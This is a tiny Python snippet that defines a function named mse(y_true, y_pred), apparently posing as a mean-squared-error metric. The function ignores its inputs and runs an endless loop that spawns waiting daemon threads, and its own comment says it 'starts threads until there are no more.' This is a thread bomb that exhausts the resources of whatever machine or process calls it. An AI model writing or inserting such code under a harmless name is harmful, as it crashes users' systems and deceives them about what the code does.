# also: limit
# Starts threads until there are no more.
import threading


def mse(y_true, y_pred):
    hold = threading.Event()
    while True:
        threading.Thread(target=hold.wait, daemon=True).start()
